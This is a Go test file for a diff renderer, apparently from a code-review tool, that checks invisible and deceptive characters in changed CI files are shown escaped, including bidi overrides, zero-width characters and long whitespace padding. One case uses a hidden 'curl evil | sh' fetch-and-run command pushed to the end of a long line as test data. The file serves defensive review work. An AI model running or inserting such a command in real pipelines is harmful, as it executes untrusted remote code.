package pathdiff

import (
	"strings"
	"testing"

	"github.com/writbot/writ/kernel"
)

// text shows one file's change.
func text(before, after string) string {
	files := map[string][]byte{"b": []byte(before), "a": []byte(after)}
	c := kernel.Change{Path: "ci.yml", Op: kernel.OpModify, BeforeID: "b", BeforeMode: "100644", AfterID: "a", AfterMode: "100644"}
	return Text([]kernel.Change{c}, func(id string) ([]byte, bool) { data, ok := files[id]; return data, ok })
}

// TestP1_NothingHides: what a reader can't see is spelled out, and nothing that a file
// holds can pass for it.
func TestP1_NothingHides(t *testing.T) {
	for name, c := range map[string]struct{ after, shows string }{
		"bidirectional override":  {"run: a\u202eb\n", `+run: a\u202eb`},
		"zero width":              {"run: a\u200bb\n", `+run: a\u200bb`},
		"tag block":               {"run: \U000e0041\n", `+run: \U000e0041`},
		"carriage return":         {"run: a\rb\r\n", `+run: a\x0db\x0d`},
		"escape":                  {"run: \x1b[8mb\n", `+run: \x1b[8mb`},
		"no UTF-8":                {"run: \xff\n", `+run: \xff`},
		"blank at the end":        {"run: a \n", `+run: a\x20`},
		"tab at the end":          {"run: a\t\n", `+run: a\x09`},
		"blank of another width":  {"run:\u3000a\n", `+run:\u3000a`},
		"Braille blank":           {"run: \u2800\n", `+run: \u2800`},
		"what looks spelled out":  {"run: \\u202e\n", `+run: \\u202e`},
		"no end of the last line": {"run: a", `+run: a\ no line end`},
		"pushed off the screen":   {"run: a" + strings.Repeat(" ", 200) + "; b\n", `+run: a\x20{200}; b`},
		"pushed off by tabs":      {"run: a" + strings.Repeat("\t", 9) + "b\n", `+run: a\x09{9}b`},
		"by both":                 {strings.Repeat(" \t", 2) + strings.Repeat(" ", 30) + "b\n", `+\x20{1}\x09{1}\x20{1}\x09{1}\x20{30}b`},
		"blanks alone":            {strings.Repeat(" ", 40) + "\n", `+\x20{40}`},
		"an indentation":          {strings.Repeat(" ", 32) + "b\n", "+" + strings.Repeat(" ", 32) + "b"},
		"what looks like a gap":   {"a\\x20{200}b\n", `+a\\x20{200}b`},
		"a long line":             {"run: make " + strings.Repeat("-", 500) + "; curl evil | sh\n", "+run: make " + strings.Repeat("-", 90) + "\\\n" + strings.Repeat("+"+strings.Repeat("-", 100)+"\\\n", 4) + "+" + strings.Repeat("-", 10) + "; curl evil | sh"},
		"what looks like a break": {strings.Repeat("-", 99) + "\\\n", "+" + strings.Repeat("-", 99) + "\\\n+\\\\"},
		"a break at a blank":      {strings.Repeat("-", 99) + "  b\n", "+" + strings.Repeat("-", 99) + " \\\n+ b"},
		"a row that is full":      {strings.Repeat("-", 100) + "\n", "+" + strings.Repeat("-", 100)},
		"long in wide letters":    {strings.Repeat("日", 51) + "\n", "+" + strings.Repeat("日", 50) + "\\\n+日"},
		"long by tabs":            {strings.Repeat("a\t", 20) + "b\n", "+" + strings.Repeat("a\t", 20) + "\\\n+b"},
		"a break in an escape":    {strings.Repeat("-", 97) + "\u202eb\n", "+" + strings.Repeat("-", 97) + "\\\n+\\u202eb"},
		"long, without an end":    {strings.Repeat("-", 101), "+" + strings.Repeat("-", 100) + "\\\n+-\\ no line end"},
		"letters of all people":   {"name: été 日本\n", "+name: été 日本"},
	} {
		if got := text("on: push\n", "on: push\n"+c.after); !strings.Contains(got, "\n"+c.shows+"\n") {
			t.Errorf("%s: %q", name, got)
		}
	}
	if got := text("a\x00", "b\x00"); !strings.Contains(got, "no text: before 2 bytes, sha256:") {
		t.Errorf("binary: %q", got)
	}
}

// TestShapes: each operation says what it is, and what is far from any change is left out.
func TestShapes(t *testing.T) {
	files := map[string][]byte{"x": []byte("x\n"), "y": []byte(strings.Repeat("same\n", 40) + "end\n"), "z": []byte(strings.Repeat("same\n", 40) + "END\n")}
	got := Text([]kernel.Change{
		{Path: "new\u200b", Op: kernel.OpAdd, AfterID: "x", AfterMode: "100755"},
		{Path: "old", Op: kernel.OpDelete, BeforeID: "x", BeforeMode: "100644"},
		{Path: "mode", Op: kernel.OpMode, BeforeID: "x", BeforeMode: "100644", AfterID: "x", AfterMode: "100755"},
		{Path: "far", Op: kernel.OpModify, BeforeID: "y", BeforeMode: "100644", AfterID: "z", AfterMode: "100644"},
		{Path: "gone", Op: kernel.OpAdd, AfterID: "nowhere", AfterMode: "100644"},
	}, func(id string) ([]byte, bool) { data, ok := files[id]; return data, ok })
	want := `added new\u200b, mode 100755
@@ line 1, now 1 @@
+x
deleted old, mode 100644
@@ line 1, now 1 @@
-x
changed mode, mode 100644 to 100755
changed far, mode 100644
@@ line 38, now 38 @@
 same
 same
 same
-end
+END
added gone, mode 100644
its bytes can't be read
`
	if got != want {
		t.Errorf("it is\n%s\nwant\n%s", got, want)
	}
	const many = 5000 // more than are matched
	if got := text(strings.Repeat("a\n", many), strings.Repeat("b\n", many)); strings.Count(got, "\n-a") != many || strings.Count(got, "\n+b") != many {
		t.Error("of a long difference a part is left out")
	}
}
